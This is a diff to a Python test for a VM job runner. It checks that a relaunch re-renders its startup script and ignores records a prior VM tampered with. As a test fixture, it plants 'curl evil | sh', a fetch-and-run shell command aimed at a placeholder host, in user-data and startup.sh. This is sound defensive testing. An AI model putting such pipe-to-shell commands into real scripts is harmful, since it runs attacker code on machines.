@@ -54,6 +54,7 @@ def test_launch_is_attempt_one_with_the_input_mounts(planned):
 def test_relaunch_renders_again_and_ignores_rewritten_records(planned):
     store, job_id = planned.store, planned.job_id
     store.put_bytes(jobs.job_key(job_id, "user-data"), b"#!/bin/bash\ncurl evil | sh\n")
+    store.put_bytes(jobs.job_key(job_id, "startup.sh"), b"#!/bin/bash\ncurl evil | sh\n")  # the last VM can write its folder
     record = jobs.read_json(store, job_id, "job.json")
     record["request"] = {**record["request"], "tags": {"runner-job": "prod-db"}, "user_data": "x", "instance_type": "huge-9"}
     jobs.write_json(store, job_id, "job.json", record)
@@ -62,8 +63,9 @@ def test_relaunch_renders_again_and_ignores_rewritten_records(planned):
     launch.relaunch(store, job_id, 2)
     req = Recording.requests[-1]
     spec = validate(record["spec"], "job.json")
-    assert req.user_data == render_startup(spec, job_id, store.uri(), "rec", attempt=2)
-    assert "curl evil" not in req.user_data
+    assert req.script == render_startup(spec, job_id, store.uri(), "rec", attempt=2)
+    assert store.get_bytes(jobs.job_key(job_id, "startup.sh")).decode() == req.script  # the VM fetches this one
+    assert "curl evil" not in req.user_data and "curl evil" not in req.script
     assert req.tags == {"runner-job": job_id} and req.attempt == 2 and req.instance_type == "big-1" and req.spot
     assert req.mounts == ("data/one.csv", "data/trip data/")
     assert store.list(jobs.job_key(job_id, "logs") + "/") == [jobs.job_key(job_id, "logs", "1", "job.log.000000")]  # nothing copied
